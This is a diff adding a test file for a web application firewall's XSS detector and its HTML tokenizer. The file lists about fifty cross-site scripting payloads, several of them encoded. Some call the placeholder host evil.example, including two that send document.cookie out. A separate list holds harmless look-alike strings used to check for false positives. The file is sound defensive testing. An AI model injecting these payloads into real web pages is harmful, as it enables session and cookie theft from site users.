@@ -1,0 +1,128 @@
+import { expect } from 'chai';
+import { tokenizeHtml } from '../../../plugins/waf/engine/html-tokenizer.js';
+import { missed, rulesOf, wronglyBlocked } from './helpers.js';
+
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '<svg onload=alert(1)>',
+  '<img src=x onerror=alert(document.domain)>',
+  '<body onpageshow=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<video><source onerror=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="jav&#x09;ascript:alert(1)">x</a>',
+  '"><script>alert(1)</script>',
+  "'><img src=x onerror=alert(1)>",
+  '" autofocus onfocus="alert(1)',
+  "' onmouseover='alert(1)",
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'java%0ascript:alert(1)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  '<object data="javascript:alert(1)">',
+  '<form action="javascript:alert(1)"><input type=submit>',
+  '<button formaction=javascript:alert(1)>x</button>',
+  '<div style="background:url(javascript:alert(1))">',
+  '<div style="width: expression(alert(1))">',
+  "<style>@import 'http://evil.example/x.css';</style>",
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '</script><script>alert(1)</script>',
+  "';alert(String.fromCharCode(88,83,83))//",
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><a><animate attributeName=href values=javascript:alert(1) /></a>',
+  '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
+  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
+  '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<IMG SRC=`javascript:alert("XSS")`>',
+  '<svg/onload=alert(1)//',
+  '<x onclick=alert(1)>click',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<a href="&#x6A;avascript:alert(1)">x</a>',
+  '<xss onpointerenter=alert(1)>',
+  '"-alert(1)-"',
+  '<img src=1 onerror=alert`1`>',
+  '＜script＞alert(1)＜/script＞',
+  '[click](javascript:alert(1))',
+  '<a href=javascript&colon;alert&lpar;1&rpar;>x</a>',
+  '<script>document.location="http://evil.example/?"+document.cookie</script>',
+  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  '<<scr\\0ipt/src=http://evil.example/x.js></script>',
+  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  '<math><a xlink:href="//evil.example">x</a>',
+  '<img src=x onerror=fetch("//evil.example/"+document.cookie)>',
+];
+
+const LOOK_ALIKES = [
+  '<3 love it',
+  'a < b > c',
+  'Tom & Jerry',
+  'I <3 <3 the doctor',
+  'x < 10 and y > 20 cm',
+  '"JavaScript: The Good Parts"',
+  'JavaScript: The Definitive Guide (7th ed)',
+  'Javascript for kids book',
+  'alert bracelet medical ID',
+  'onload cargo bike',
+  'iframe photo frame 8"',
+  'Script font wedding invitation',
+  'style=modern',
+  'Please confirm my order',
+  'document holder',
+  'cookie jar',
+  'window cleaner',
+  '<b>bold</b> text',
+  '<p>Hello</p>',
+  'Hello<br/>World',
+  'BLAH <A HREF="/PATH1/PATH2/PATH3">FOO</A>',
+  '<a href="https://example.com">link</a>',
+  'Hair dryer 1800W -> 2000W upgrade',
+  'Love it <3 <3 <3',
+  '5 stars!!! :-)',
+  '{"note":"gift wrap, please"}',
+  'Facial expression (happy) poster',
+  'data: 2 GB plan',
+  'evaluation kit (eval)',
+];
+
+describe('waf xss', () => {
+  it('blocks script-capable markup, handlers, script URLs and JS sinks in any encoding', () => {
+    expect(missed(ATTACKS)).to.deep.equal([]);
+  });
+
+  it('passes text with angle brackets, ampersands and harmless markup', () => {
+    expect(wronglyBlocked(LOOK_ALIKES)).to.deep.equal([]);
+  });
+
+  it('identifies the executing construct', () => {
+    expect(rulesOf('<img src=x onerror=alert(1)>', 'xss')).to.include('xss.event-handler');
+    expect(rulesOf('<script>x</script>', 'xss')).to.include('xss.dangerous-tag');
+    expect(rulesOf('<a href="javascript:x()">', 'xss')).to.include('xss.script-url-attribute');
+    expect(rulesOf('" onfocus="x()', 'xss')).to.include('xss.event-handler');
+  });
+
+  it('flags plain markup only at paranoia 2', () => {
+    expect(rulesOf('<img src="a.png" alt="x">', 'xss', 1)).to.deep.equal([]);
+    expect(rulesOf('<img src="a.png" alt="x">', 'xss', 2)).to.include('xss.html-tag');
+  });
+
+  describe('tokenizer', () => {
+    it('separates tags, attributes and values', () => {
+      const toks = tokenizeHtml('<img src="a b" onerror=x>', 'data').map((t) => `${t.type}:${t.value}`);
+      expect(toks).to.deep.equal(['tag-open:img', 'attr-name:src', 'attr-value:a b', 'attr-name:onerror', 'attr-value:x', 'tag-end:>']);
+    });
+
+    it('starts inside a quoted attribute for attribute contexts', () => {
+      const toks = tokenizeHtml('x" onclick="y', 'attr-double').map((t) => `${t.type}:${t.value}`);
+      expect(toks).to.deep.equal(['attr-value:x', 'attr-name:onclick', 'attr-value:y']);
+    });
+
+    it('treats "<" not followed by a letter as text', () => {
+      expect(tokenizeHtml('a < b <3', 'data').every((t) => t.type === 'text')).to.equal(true);
+    });
+  });
+});
